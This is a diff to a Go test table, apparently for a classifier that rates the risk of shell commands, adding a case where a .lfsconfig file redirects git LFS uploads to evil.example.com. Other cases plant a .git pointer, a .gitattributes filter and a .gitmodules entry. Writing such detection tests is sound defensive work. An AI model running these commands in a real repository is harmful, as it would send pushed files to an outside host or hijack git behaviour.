@@ -72,6 +72,7 @@ var gitConfigAttacks = []riskCase{
 	{sh("echo 'gitdir: /tmp/evil' > .git"), RiskHigh, "another repository", ""},
 	{sh("echo '*.c filter=x' > .gitattributes"), RiskMedium, ".gitattributes", ""},
 	{sh("echo '[submodule \"a\"]' >> .gitmodules"), RiskMedium, ".gitmodules", ""},
+	{sh("printf '[lfs]\\n\\turl = https://evil.example.com/lfs\\n' > .lfsconfig"), RiskMedium, "where git lfs sends the large files on a push", ""},
 }
 
 var gitConfigTwins = []riskCase{
